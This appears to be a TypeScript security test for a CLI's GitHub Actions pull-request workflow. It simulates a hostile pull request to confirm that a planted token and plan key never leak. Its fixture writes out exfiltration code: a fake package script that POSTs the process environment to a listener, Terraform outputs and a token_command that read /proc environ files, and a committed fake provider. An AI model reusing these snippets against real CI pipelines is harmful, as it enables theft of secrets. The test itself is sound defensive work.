/**
 * The CLI's pull-request workflow (examples/github-actions/plan.yml), run step by step on this
 * machine (test/ci/workflow-runner.ts) against the simulator, with a token and a plan key planted
 * in the secrets, for a hostile pull request (issue 41): its app writes its environment into the
 * synthesized stack and adds outputs of `file("/proc/self/environ")`, `base64encode(...)` and
 * `templatefile(...)` and a provider block with `url` (a listener of the test) and `token_command`;
 * it commits a `terraform.d/plugins/…/9.9.9` provider, and its package.json depends on
 * alert-rule-users as `file:evilpkg`, whose CLI posts its environment to the listener before
 * synthesizing. The synth job (no secret) runs all of that; the plan job (the secrets) checks out
 * the base, installs the base's dependencies and plans the synthesized JSON as data: it shows the
 * pull request's change, and neither secret is in the comment, an artifact or a request to the
 * listener; none of the pull request's code runs in the plan job. (The HCL workflows:
 * test/terraform/hcl-workflow-run.test.ts and hcl-workflow-merge.test.ts.)
 */
import { execFileSync } from "node:child_process";
import { chmodSync, existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { CLI, REPO, type StackDecl } from "../support/cli";
import { ENGINEERING_USERS, RULES } from "../support/sample";
import { useSimulator } from "../support/simulator";
import { explain, secretFoundIn, startListener, type Listener } from "./planted-token";
import { loadWorkflow, runWorkflow, type RunResult } from "./workflow-runner";

const TOKEN = "planted-cli-secret-5e0a17c94b2d8f36";
const PLAN_KEY = "planted-plan-key-c81f2e6a90d34b57";
const sim = useSimulator({ token: TOKEN });
const GIT_ENV = { GIT_AUTHOR_NAME: "test", GIT_AUTHOR_EMAIL: "test@example.com", GIT_COMMITTER_NAME: "test", GIT_COMMITTER_EMAIL: "test@example.com" };
const VERSION = "0.1.0";

let dir: string;
let listener: Listener;

beforeAll(async () => {
  dir = mkdtempSync(join(tmpdir(), "aru-cli-plan-run-"));
  listener = await startListener();
});

afterAll(async () => {
  await listener.close();
  rmSync(dir, { recursive: true, force: true });
});

/** The app of a project: one stack, its lists from the JSON; `extra` runs with the stack in scope (`stack`). */
function app(stacks: StackDecl[], extra = ""): string {
  return `
const { App, TerraformStack } = require(${JSON.stringify(require.resolve("cdktf", { paths: [REPO] }))});
const { RuleUserList } = require(${JSON.stringify(join(REPO, "dist", "src", "index.js"))});
const app = new App();
for (const decl of ${JSON.stringify(stacks)}) {
  const stack = new TerraformStack(app, decl.name);
  for (const list of decl.lists) new RuleUserList(stack, list.id, list.props);
  ${extra}
}
app.synth();
`;
}

function write(root: string, files: Record<string, string>): void {
  for (const [path, content] of Object.entries(files)) {
    mkdirSync(join(root, path, ".."), { recursive: true });
    writeFileSync(join(root, path), content);
  }
}

const project = (stacks: StackDecl[], dependency = VERSION, resolved = `https://registry.npmjs.org/alert-rule-users/-/alert-rule-users-${VERSION}.tgz`, extra = "") => ({
  "cdktf.json": JSON.stringify({ language: "typescript", app: "node app.js" }),
  "app.js": app(stacks, extra),
  "package.json": JSON.stringify({ name: "lists", private: true, dependencies: { "alert-rule-users": dependency } }),
  "package-lock.json": JSON.stringify({ lockfileVersion: 3, packages: { "": {}, "node_modules/alert-rule-users": { version: VERSION, resolved } } }),
  ".gitignore": "node_modules/\ncdktf.out/\n",
});

const engineering = (users: ReadonlyArray<{ userId: string; aliases: readonly string[] }>): StackDecl[] => [
  { name: "lists", lists: [{ id: "engineering", props: { ruleId: RULES.engineering, users } }] },
];

describe("the CLI's pull-request workflow (plan.yml), run step by step with a planted token and plan key", () => {
  let result: RunResult;
  const ranIn = () => join(dir, "evil-cli-ran-in");
  const committedProviderRan = () => join(dir, "committed-provider-ran");
  const tokenCommandRan = () => join(dir, "token-command-ran");

  beforeAll(async () => {
    // the base: main's project, a git repository (the plan job checks it out by the event's base SHA)
    const base = join(dir, "base");
    write(base, project(engineering(ENGINEERING_USERS)));
    const git = (...args: string[]) => execFileSync("git", args, { cwd: base, env: { ...process.env, ...GIT_ENV }, encoding: "utf8" }).trim();
    git("init", "-q", "-b", "main");
    git("add", "-A");
    git("commit", "-q", "-m", "main");
    const baseSha = git("rev-parse", "HEAD");

    // the hostile pull request: adds a user, and everything else it can
    const head = join(dir, "head");
    const environ = '${file("/proc/self/environ")}';
    const hostile = `
  stack.addOverride("output.env", { value: JSON.stringify(process.env) });
  stack.addOverride("output.x", { value: ${JSON.stringify(environ)} });
  stack.addOverride("output.y", { value: ${JSON.stringify('${base64encode(file("/proc/self/environ"))}')} });
  stack.addOverride("output.z", { value: ${JSON.stringify('${templatefile("/proc/self/environ", {})}')} });
  stack.addOverride("provider.alertrules", [{ url: ${JSON.stringify(listener.url)}, token_command: ${JSON.stringify(`touch ${tokenCommandRan()}; cat /proc/$PPID/environ`)} }]);`;
    write(head, {
      ...project(engineering([...ENGINEERING_USERS, { userId: "9400", aliases: ["pr.person@example.com"] }]), "file:evilpkg", "file:evilpkg", hostile),
      "evilpkg/package.json": JSON.stringify({ name: "alert-rule-users", version: "9.9.9", bin: { "alert-rule-users": "cli.sh" } }),
      "evilpkg/cli.sh": [
        "#!/usr/bin/env bash",
        `echo "$PWD" >> ${JSON.stringify(ranIn())}`,
        `node -e 'fetch(process.argv[1], { method: "POST", body: JSON.stringify(process.env) }).catch(() => {})' ${JSON.stringify(listener.url)}`,
        `exec node ${JSON.stringify(CLI)} "$@"`,
        "",
      ].join("\n"),
      "terraform.d/plugins/registry.terraform.io/alert-rule-users/alertrules/9.9.9/linux_amd64/terraform-provider-alertrules_v9.9.9": `#!/usr/bin/env bash\ntouch ${JSON.stringify(committedProviderRan())}\n`,
    });
    chmodSync(join(head, "evilpkg", "cli.sh"), 0o755);
    chmodSync(join(head, "terraform.d/plugins/registry.terraform.io/alert-rule-users/alertrules/9.9.9/linux_amd64/terraform-provider-alertrules_v9.9.9"), 0o755);

    const home = join(dir, "home");
    mkdirSync(home, { recursive: true });
    result = await runWorkflow(loadWorkflow("examples/github-actions/plan.yml", "."), {
      head,
      base,
      baseSha,
      vars: { ALERTS_API_URL: sim.url, ALERTS_TENANT_ID: sim.tenantId },
      secrets: { ALERTS_API_TOKEN: TOKEN, ALERT_RULE_USERS_PLAN_KEY: PLAN_KEY },
      env: { PATH: process.env["PATH"], HOME: home, npm_config_cache: join(home, "npm-cache"), ...GIT_ENV },
    });
  });

  it("the synth job (no secret) runs the pull request's code; the plan job (the secrets) checks out the base and plans the synthesized JSON, showing the change", () => {
    expect(`${JSON.stringify(result.jobs)}\n${explain(result)}`).toMatch(/^\{"synth":"success","plan":"success"\}/);
    expect(result.checkouts).toEqual({ synth: "head", plan: "base" });
    // the pull request's own CLI ran, in the synth job only
    const ran = readFileSync(ranIn(), "utf8").trim().split("\n");
    expect(ran.length).toBeGreaterThan(0);
    for (const where of ran) expect(where).toMatch(/\/synth\/workspace$/);
    expect(listener.received.length).toBeGreaterThan(0);
    // the comment: the CLI's rendering of the change, nothing of the environment
    expect(result.comments).toHaveLength(1);
    expect(result.comments[0]).toContain("<!-- alert-rule-users-plan -->");
    expect(result.comments[0]).toContain("pr.person@example.com");
    expect(result.comments[0]).not.toMatch(/PATH|HOME=|npm_config_cache/);
    expect(Object.keys(result.artifacts).sort()).toEqual(["alert-rule-users-plan", "alert-rule-users-synth"]);
    expect(sim.requestLog().length).toBeGreaterThan(0);
  });

  it("neither the token nor the plan key is in the comment, an artifact or a request to the listener; the provider block's command and the committed provider never ran", () => {
    expect(secretFoundIn(result, listener.received, TOKEN)).toEqual([]);
    expect(secretFoundIn(result, listener.received, PLAN_KEY)).toEqual([]);
    expect(existsSync(tokenCommandRan())).toBe(false);
    expect(existsSync(committedProviderRan())).toBe(false);
  });
});
